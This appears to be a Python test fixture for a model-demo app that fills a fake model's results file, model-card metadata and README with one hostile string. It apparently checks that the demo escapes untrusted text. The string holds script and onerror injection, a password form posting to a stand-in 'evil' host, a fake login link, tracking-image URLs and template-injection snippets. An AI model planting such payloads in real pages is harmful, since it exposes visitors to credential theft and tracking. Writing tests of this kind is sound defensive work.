"""A model that tries to show a login form, and to make the visitor's browser fetch things, by every text that it brings."""

import json

import yaml
from gland_space.demo import Demo
from gland_space.model_source import LoadedModel, ModelSource
from space_tools import dark_segmenter
from test_demo_figures import METRICS, RECORD

HOSTILE = ("![x](http://tracker.invalid/p.png) <img src=http://tracker.invalid/q onerror=alert(1)> | `code` "
           "<form action=//evil.invalid><input type=password></form>\n\n# Log in\n[here](http://evil.invalid) ${alert(1)} "
           "{{constructor}} $$x$$ </code></pre><script>alert(1)</script>")


def hostile_demo(folder):
    """Its class name, its card's licence, dataset, split, figure's name and value, and its records say HOSTILE."""
    model = folder / "model"
    (model / "results").mkdir(parents=True)
    (model / "results" / "r.json").write_text(json.dumps(RECORD | {"dataset": HOSTILE, "test_split": HOSTILE} | {
        "metrics": METRICS}))
    card = {"license": "other", "license_name": HOSTILE, "model-index": [{"name": HOSTILE, "results": [{
        "task": {"type": "image-segmentation"}, "dataset": {"type": "t", "name": HOSTILE, "split": HOSTILE},
        "metrics": [{"type": "mIoU", "name": HOSTILE, "value": HOSTILE}]}]}]}
    (model / "README.md").write_text(f"---\n{yaml.safe_dump(card)}---\n{HOSTILE}\n")
    loaded = LoadedModel(dark_segmenter(gland=HOSTILE), ModelSource(str(model)))
    return Demo(loaded, None, folder / "space")


def without_records(folder):
    """The same with its figures in the card alone."""
    demo = hostile_demo(folder)
    (folder / "model" / "results" / "r.json").unlink()
    return demo
